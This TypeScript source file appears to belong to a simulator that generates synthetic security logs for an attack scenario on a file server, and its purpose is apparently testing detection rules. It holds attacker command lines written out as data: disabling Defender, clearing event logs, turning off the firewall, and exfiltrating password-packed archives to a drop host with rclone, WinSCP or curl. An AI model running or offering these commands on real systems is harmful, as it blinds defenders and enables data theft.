// The ways in which the intruder leaves with the data: tools and transfers to an outside address.
import { traffic } from "../emit/fortigate.ts";
import {
  connects,
  type Process,
  resolves,
  running,
  setsRegistry,
  writesFile,
} from "../emit/process.ts";
import { PROGRAMS, program } from "../emit/programs.ts";
import { windows } from "../emit/security.ts";
import { WINDOWS_EVENTS } from "../emit/windows-event.ts";
import { MINUTE, SECOND, type World } from "../world.ts";
import { atFileServer, held, run, type Scene, type Step, type Variant } from "./scene.ts";

function defenderOff(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const shell = held(scene.fileServerShell);
  const service = running(world, scene.fileServer, PROGRAMS.svchost);
  if (random.chance(0.5)) {
    run(
      world,
      time,
      shell,
      PROGRAMS.powershell,
      random.pick([
        "-c Set-MpPreference -DisableRealtimeMonitoring $true",
        `Add-MpPreference -ExclusionPath ${scene.folder}`,
        '-nop -c "Set-MpPreference -DisableIOAVProtection $true -DisableRealtimeMonitoring 1"',
      ]),
    );
  } else {
    const tool = run(
      world,
      time,
      shell,
      PROGRAMS.reg,
      `add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
    );
    setsRegistry(
      world,
      time + 90,
      tool,
      "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
      "DWORD (0x00000001)",
    );
  }
  setsRegistry(
    world,
    time + SECOND,
    service,
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
    "DWORD (0x00000001)",
  );
  const product = {
    "Product Name": "Microsoft Defender Antivirus",
    "Product Version": "4.18.24080.9",
  };
  windows(world, time + 1500, scene.fileServer, WINDOWS_EVENTS.defenderOff, product);
  windows(world, time + 1600, scene.fileServer, WINDOWS_EVENTS.defenderSetting, {
    ...product,
    "Old Value": "",
    "New Value":
      "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = 0x1",
  });
  return time + 5 * SECOND;
}

function logsCleared(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const shell = held(scene.fileServerShell);
  for (const [index, log] of ["System", "Security", "Application"].entries()) {
    run(
      world,
      time + index * SECOND,
      shell,
      PROGRAMS.wevtutil,
      `${random.pick(["cl", "clear-log", "CL"])} ${random.chance(0.5) ? log : log.toLowerCase()}`,
    );
  }
  const who = {
    SubjectUserSid: scene.stolen.account.sid,
    SubjectUserName: scene.stolen.account.name,
    SubjectDomainName: scene.stolen.account.domain,
    SubjectLogonId: shell.logon,
  };
  windows(world, time + 300, scene.fileServer, WINDOWS_EVENTS.systemLogCleared, {
    SubjectUserName: who.SubjectUserName,
    SubjectDomainName: who.SubjectDomainName,
    Channel: "System",
    BackupPath: "",
  });
  windows(world, time + 1400, scene.fileServer, WINDOWS_EVENTS.logCleared, who);
  return time + 5 * SECOND;
}

function firewallOff(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const shell = held(scene.fileServerShell);
  run(
    world,
    time,
    shell,
    PROGRAMS.netsh,
    random.pick([
      "advfirewall set allprofiles state off",
      "advfirewall set currentprofile state off",
      "firewall set opmode disable",
    ]),
  );
  const service = running(world, scene.fileServer, PROGRAMS.svchost);
  for (const profileName of ["DomainProfile", "StandardProfile"]) {
    setsRegistry(
      world,
      time + 600,
      service,
      `HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\${profileName}\\EnableFirewall`,
      "DWORD (0x00000000)",
    );
  }
  for (const name of ["WinDefend", "Sense"])
    run(
      world,
      time + 3 * SECOND,
      shell,
      PROGRAMS.sc,
      `${random.pick(["stop", "config"])} ${name}${random.chance(0.5) ? " start= disabled" : ""}`,
    );
  return time + 6 * SECOND;
}

export const EVASION: Step = {
  id: "09-defense-evasion",
  tactic: "defense-evasion",
  knownToRules: true,
  variants: [
    {
      technique: "T1562.001",
      title: "Virenschutz auf dem Dateiserver abgeschaltet",
      ...atFileServer,
      run: defenderOff,
    },
    {
      technique: "T1070.001",
      title: "Ereignisprotokolle gelöscht",
      ...atFileServer,
      run: logsCleared,
    },
    {
      technique: "T1562.004",
      title: "Firewall des Dateiservers abgeschaltet",
      ...atFileServer,
      run: firewallOff,
    },
  ],
};

function packed(world: World, scene: Scene, time: number, parent: Process): string {
  const { random } = world;
  const archive = `${scene.folder}\\${random.hex(6)}.7z`;
  const packer = {
    ...program(
      `${scene.folder}\\${random.pick(["7z.exe", "7za.exe", "z.exe"])}`,
      "7-Zip Standalone Console",
      "7-Zip",
      "Igor Pavlov",
      "7za.exe",
    ),
    version: "24.08",
  };
  writesFile(world, time, parent, packer.path);
  const started = run(
    world,
    time + 2 * SECOND,
    parent,
    packer,
    `a -mx1 ${random.pick(["-p", "-mhe=on -p"])}${random.hex(8)} ${archive} D:\\Freigaben\\${random.pick(["Soziales", "Gesundheit", "Personal"])}`,
  );
  writesFile(world, time + 4 * SECOND, started, archive);
  return archive;
}

function exfiltration(
  technique: string,
  title: string,
  tool: (
    world: World,
    scene: Scene,
    archive: string,
  ) => { path: string; description: string; original: string; line: string },
): Variant {
  return {
    technique,
    title,
    ...atFileServer,
    run: (world, scene, time) => {
      const { random } = world;
      const parent = held(scene.fileServerShell);
      const archive = packed(world, scene, time, parent);
      const { path, description, original, line } = tool(world, scene, archive);
      const at = time + random.int(4, 15) * MINUTE;
      writesFile(world, at, parent, path);
      const started = run(
        world,
        at + 5 * SECOND,
        parent,
        program(path, description, description, "-", original),
        line,
      );
      resolves(world, at + 7 * SECOND, started, scene.dropHost, scene.dropAddress);
      const sourcePort = connects(world, at + 8 * SECOND, started, {
        ip: scene.dropAddress,
        name: scene.dropHost,
        port: technique === "T1048" ? 22 : 443,
      });
      traffic(world, at + 3 * MINUTE, {
        from: scene.fileServer.ip,
        to: scene.dropAddress,
        port: technique === "T1048" ? 22 : 443,
        sourcePort,
        sent: random.int(90e6, 600e6),
        received: 400_000,
        durationSeconds: 170,
      });
      return at + 4 * MINUTE;
    },
  };
}

export const EXFILTRATION: Step = {
  id: "10-exfiltration",
  tactic: "exfiltration",
  knownToRules: true,
  variants: [
    exfiltration("T1567.002", "Daten mit rclone nach außen kopiert", (world, scene) => ({
      path: `${scene.folder}\\${world.random.pick(["rclone.exe", "svchost.exe", "rc.exe"])}`,
      description: "Rsync for cloud storage",
      original: "rclone.exe",
      line: `${world.random.pick(["copy", "sync"])} D:\\Freigaben ${world.random.pick(["remote", "mega", "x"])}:${world.random.hex(4)} --config ${scene.folder}\\r.conf --transfers ${world.random.int(8, 32)} --max-age 3y -q --ignore-existing`,
    })),
    exfiltration("T1048", "Archiv mit WinSCP nach außen übertragen", (world, scene, archive) => ({
      path: `${scene.folder}\\WinSCP.com`,
      description: "Console interface for WinSCP",
      original: "winscp.com",
      line: `/command "open sftp://u${world.random.int(10, 99)}:x@${scene.dropHost}/ -hostkey=*" "put ${archive}" "exit"`,
    })),
    exfiltration("T1041", "Archiv mit curl nach außen übertragen", (world, scene, archive) => ({
      path: "C:\\Windows\\System32\\curl.exe",
      description: "The curl executable",
      original: "curl.exe",
      line: world.random.pick([
        `-k -T ${archive} https://${scene.dropHost}/up/`,
        `-s -F "file=@${archive}" https://${scene.dropHost}/${world.random.hex(5)}`,
        `--upload-file ${archive} https://${scene.dropHost}/`,
      ]),
    })),
  ],
};
